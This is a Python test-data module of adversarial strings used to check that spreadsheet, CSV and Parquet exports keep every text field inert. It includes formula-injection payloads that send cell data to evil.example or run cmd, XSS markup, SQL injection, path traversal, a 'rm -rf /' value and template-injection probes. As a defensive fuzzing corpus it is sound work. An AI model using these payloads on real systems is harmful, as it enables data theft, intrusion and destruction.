"""Texts that some program takes for more than text, by what they would become: 600 and more.

They stand in every text field of an input and must come out as text. A text is written into files as it is;
`FOR_FORMAT` says which of them a format can hold at all.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator

EVIL = "http://evil.example"
FORMULA_STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
BEFORE = (
    "", " ", "\t", "\r", "\n", "'", '"', "\u3000", "\ufeff", "\u200b", "\u00a0", ";", ",", "|",
)  # fmt: skip
FORMULAS = (
    "1+1", "SUM(A1:A9)", f'HYPERLINK("{EVIL}/?x="&A1,"张")', "cmd|' /C calc'!A0",
    f'IMPORTXML(CONCAT("{EVIL}/",A1),"//a")', "DDE(\"cmd\";\"/C calc\";\"x\")",
)  # fmt: skip
_LENGTHS = (255, 256, 32_766, 32_767, 32_768)
_MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<b>张</b>",
    f'<a href="{EVIL}">张</a>', "<iframe src=javascript:alert(1)>", "<math><mi//xlink:href=data:x>",
    "<style>*{display:none}</style>", f'<link rel=stylesheet href="{EVIL}/x.css">',
    "<base href=//evil.example>", f'<meta http-equiv=refresh content="0;url={EVIL}">',
    "<form action=//evil.example><input name=a>", "<object data=x>", "<embed src=x>", "<table><tr><td>",
    "</td></tr></table>", "<!-- 张", "-->", "<![CDATA[张", "]]>", "<?php echo 1 ?>",
    "<?xml version='1.0'?>", "<!DOCTYPE html>", "<!ENTITY x '1'>", "<textarea>", "</textarea>",
    "<noscript>", "<plaintext>", "<xmp>", "<title>", "</title>", "</style>", "</script>", "<template>",
    "<marquee>", "<audio src onerror=alert(1)>", "<video><source onerror=alert(1)>",
    "<details open ontoggle=alert(1)>", "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>",
)  # fmt: skip
_BREAKING_OUT = ('"><', "'><", "</td>", "--></style>", "]]>", '" onmouseover="alert(1)" x="', "&lt;", "`")
_ADDRESSES = (
    "http://evil.example/", "https://evil.example/?q=张", "ftp://evil.example/x", "ftps://evil.example",
    "mailto:x@evil.example", "internal:Sheet1!A1", "external:c:\\evil.xlsx",
    "external:\\\\evil\\share\\x.xlsx", "file:///etc/passwd", "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:x", "www.evil.example", "//evil.example/x",
    "evil.example", "tel:10086", "sms:10086", "ms-excel:ofe|u|http://evil.example", "http://[::1]/",
    "http://evil.example:99999/", "HTTP://EVIL.EXAMPLE", "hxxp://evil.example", "\\\\evil.example\\share",
    "smb://evil.example", "ldap://evil.example", "search-ms:query=x", "internal:'总览'!A1", "#总览!A1",
    "#Sheet1!A1",
)  # fmt: skip
_TERMINAL = (
    "\x1b[31m张\x1b[0m", "\x1b[2J", "\x1b]0;title\x07", f"\x1b]8;;{EVIL}\x1b\\张\x1b]8;;\x1b\\",
    "\x1b[8m张", "\x1b[?1049h", "\x1bc", "\x1bPq\x1b\\", "\x1b_x\x1b\\", "\x1b^x\x1b\\", "\x1b[6n",
    "\x1b[5i", "\x1b#8", "\x9b31m张", "\x9d0;t\x9c", "\x90q\x9c", "\x07", "\x08\x08\x08张", "张\r李",
    "\x0c", "\x0b", "\x0e\x0f", "\x7f", "\x84\x85", "\x1b]52;c;YQ==\x07", "\x1b[1;1H", "\x1b[A\x1b[2K",
    "\x1b[38;5;1m", "\x1b]1337;File=:YQ==\x07", "\x1b%G", "\x00张", "\x1a",
)  # fmt: skip
_DIRECTIONS = (
    "张\u202e三", "\u202d张", "\u202a\u202b\u202c", "\u2066张\u2069", "\u2067张", "\u2068", "\u2069",
    "\u200e张", "张\u200f", "\u061c", "abc\u202efdp.exe", "مرحبا", "שלום 张", "123\u202e456",
)  # fmt: skip
_UNSEEN = (
    "张\u200b伟", "张\u200c伟", "张\u200d伟", "\ufeff张", "张\u00ad伟", "\u2060", "\u180e", "\u034f",
    "张\ufe0f", "\U000e0041\U000e0042", "\u3164", "\uffa0", "\u115f\u1160", "张\u00a0伟", "\u2028张",
    "\u2029", "\x85", "\ufff9张\ufffa李\ufffb",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!", "\u0301\u0301\u0301", "ﷺ", "\ufffd",
    "\ufffe", "\uffff", "\ufdd0", "\U0001fffe",
)  # fmt: skip
_LETTERS = (
    "𠮷田", "𣲗", "㐀㐁", "𰻞", "王\ue000伟", "\U000f0000", "👨‍👩‍👧‍👦", "🏳️‍🌈", "👍🏽", "1️⃣", "🇨🇳",
    "𝕬𝖇𝖈", "ﬀ", "ǆ", "İı", "ß", "Å", "ＡＢＣ１２３", "ｶﾞ", "가", "が", "Ω≈ç√∫", "‘’“”…", "ЁЂЃ", "田中さん",
    "ﾟ･✿ヾ╲(｡◕‿◕｡)╱✿･ﾟ", "Ṱ̺̺̕o͞", "⒈⒉", "㍿", "①", "﹤script﹥", "＜script＞alert(1)＜／script＞", "〈b〉",
    "·阿·", "・", "•", "買買提．吐爾遜", "𝟣𝟤𝟥", "٠١٢٣",
)  # fmt: skip
_NUMBERS = (
    "0", "00", "-0", "-1", "1.0", "1e5", "1E+17", "1,234", "0x1F", "1_000", "∞", "NaN", "nan", "-inf",
    "Infinity", "1/0", "１２３", "99999999999999999999999", "0.1e-400", "$1.00", "￥1", "1%", "½", "²",
    "৩", "0b1", "0o7", "1.7976931348623157e309", "00012",
)  # fmt: skip
_DATES = (
    "1-2", "3/4", "2015-07-01", "1900-01-00", "1900-02-29", "9999-12-31", "12:30", "2015年7月", "MAR1",
    "SEPT2", "1E2", "10-Dec", "0000-00-00", "2015-13-45", "20150701", "20150229", "42186", "-1",
    "2015-07-01T00:00:00Z", "Jan 1", "FEB-29",
)  # fmt: skip
_EMPTY = (
    "NULL", "null", "None", "nil", "undefined", "N/A", "#N/A", "#REF!", "#VALUE!", "#DIV/0!", "#NAME?",
    "NA", "n/a", "-", "--", "无", "空", "true", "TRUE", "False", "是", "否", "[]", "{}", "''", '""',
    "\\N", "(null)", "<null>", "void", "TRUE()", "constructor", "__proto__",
)  # fmt: skip
_ESCAPES = (
    "_x0041_", "_x000D_", "_x005F_x0041_", "_x0000_", "_xD83D_", "_xFFFF_", "_X0041_", "_x41_",
    "张_x000a_伟", "_x005F_", "&amp;", "&#0;", "&#x1F600;", "&lt;b&gt;", "&nbsp;", "&#60;script&#62;",
    "&quot;", "&bogus;", "%00", "%3Cscript%3E", "\\u003cscript\\u003e", "\\x3c", "\\n", "\\", "\\\\",
    "\\0", "^[[31m", "&CSECRET", "&[File]", "&&", "&P", "&", "@[张](user)", "<r><t>张</t></r>",
    "<r>&</r>", "<r></r>", "<r>", "xml:space", "<si>", "</si>", "</is></c></row>", "</sheetData>", "</t>",
)  # fmt: skip
_CSV = (
    "a,b", 'a"b', '"', '""', '","', "a;b", "a\tb", "a\nb", "a\r\nb", "\n", "'", "'=1+1", '"=1+1"',
    ',=1+1', "\n=1+1", ';=1+1', '="0123"', "=\"=1+1\"", "sep=;", "sep=,", "#comment", "\\", "|", "a\\,b",
    "ID", "ID;1",
)  # fmt: skip
_PATHS = (
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\Windows", "~/x", "~root", "$HOME",
    "%TEMP%", "`id`", "$(id)", "; rm -rf /", "CON", "PRN", "AUX", "NUL", "COM1", "LPT1", "con.txt",
    "nul.xlsx", ".", "..", "...", "a.", "a ", ".hidden", "-rf", "--out", "a/b", "a:b", "a*b?",
    "desktop.ini", "~$x.xlsx", "file\u202excod.exe", "x::$DATA", "\\\\?\\C:\\x", "/dev/null",
    "/proc/self/environ", "x.xlsx#Sheet1!1", "a#1", "!A1",
)  # fmt: skip
_SQL = (
    "'; DROP TABLE ledger; --", "' OR '1'='1", '"; COPY ledger TO \'/tmp/x\'; --',
    "1); ATTACH '/tmp/x' AS y; --", "' UNION SELECT * FROM registrations --", "$$x$$", "E'\\x41'",
    "/* x */", "-- x", "x' || read_csv('/etc/passwd') || '", "?", "$1", ":name", "{{1}}", '" || "', "%",
    "_", "[a-z]", "); INSTALL httpfs; --", "SET enable_external_access=true", "PRAGMA version",
    "'||(SELECT 1)||'", "\\'; --", "''; --", "name\" AS x, \"y", "ref", "SELECT", "NULL::text",
)  # fmt: skip
_TEMPLATES = (
    "{{7*7}}", "{% raw %}", "{# x #}", "{{ config }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0}", "{name}",
    "{", "}", "{}", "{!r}", "%s", "%(name)s", "%n%n%n", "$x", "$$", "{{''.__class__.__mro__}}",
    "{x.__class__}", "{:>99999999}", "{% include '/etc/passwd' %}", "{{ caller() }}", "/* fonts */",
)  # fmt: skip
_RICH = (
    "[red]张[/red]", "[/]", "[/red]", "[bold", "[link=http://evil.example]张[/link]",
    "[@click=app.bell]x[/]", ":smile:", ":warning:", "\\[red]", "[[red]]", "[blink]", "[on red]", "[1]",
    "[]", "[not bold]", "[conceal]x[/conceal]", "[#ff0000]x", "[link]x",
)  # fmt: skip
_MATHS = (
    r"$\frac$", r"$\frac{1}{2}$", "$", "$$", "$1$2$", r"\$", r"$\bad{", "$_$", "$^$", r"$\mathbf{x}$",
    r"\\(x\\)", r"\begin{x}", "$x", "x$", "100$ 200$", r"$\sqrt$", r"\input{/etc/passwd}",
    r"\write18{id}", "$\\left($", "_legend_", "_x", "$张$", "$\u202e$",
)  # fmt: skip
_LONG = (
    *("长" * length for length in _LENGTHS), *("A" * length for length in _LENGTHS),
    *("=" + "1+" * (length // 2) for length in _LENGTHS), "<" * 5_000, "&" * 8_000, "_x0041_" * 4_000,
    "𠮷" * 20_000, "\n" * 300, " " * 400, f"{EVIL}/" + "a" * 2_500,
)  # fmt: skip
_NOTEBOOK = (
    "**粗**", "# 标题", "- 项", "1. 项", "```", "`code`", "![x](http://evil.example/x.png)",
    "[张](http://evil.example)", "[张](javascript:alert(1))", "<http://evil.example>", "|a|b|", "---",
    "~~x~~", "> 引", "%matplotlib inline", "%%bash", "!ls", "?print", "\\(x\\)", "\\[x\\]", "$$x$$",
    "[^1]", ":::", "<mark>",
)  # fmt: skip


def _joined(first: tuple[str, ...], second: tuple[str, ...]) -> tuple[str, ...]:
    return tuple(one + two for one in first for two in second)


CATEGORIES: dict[str, tuple[str, ...]] = {
    "formulas": _joined(FORMULA_STARTS, FORMULAS),
    "formulas behind something": tuple(
        f"{before}{FORMULA_STARTS[turn % len(FORMULA_STARTS)]}{FORMULAS[turn % len(FORMULAS)]}"
        for turn, before in enumerate(BEFORE * 5)
        if before
    ),
    "markup": _MARKUP,
    "markup that breaks out": _joined(_BREAKING_OUT, _MARKUP[:2]),
    "addresses": _ADDRESSES,
    "terminal": _TERMINAL,
    "directions": _DIRECTIONS,
    "unseen": _UNSEEN,
    "letters": _LETTERS,
    "numbers": _NUMBERS,
    "dates": _DATES,
    "empty": _EMPTY,
    "escapes": _ESCAPES,
    "csv": _CSV,
    "paths": _PATHS,
    "sql": _SQL,
    "templates": _TEMPLATES,
    "rich": _RICH,
    "maths": _MATHS,
    "notebook": _NOTEBOOK,
    "long": _LONG,
}
STRINGS: tuple[str, ...] = tuple(dict.fromkeys(text for texts in CATEGORIES.values() for text in texts))
"""All of them, each once."""

_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
FOR_FORMAT: dict[str, Callable[[str], bool]] = {
    "xlsx": lambda text: not _NOT_XML.search(text) and len(text) <= 32_767,
    "csv": lambda text: "\x00" not in text,
    "parquet": lambda _: True,
}
"""Whether files of a format can hold a text."""


def held(extension: str) -> Iterator[str]:
    """The texts that files of a format can hold."""
    return filter(FOR_FORMAT[extension], STRINGS)
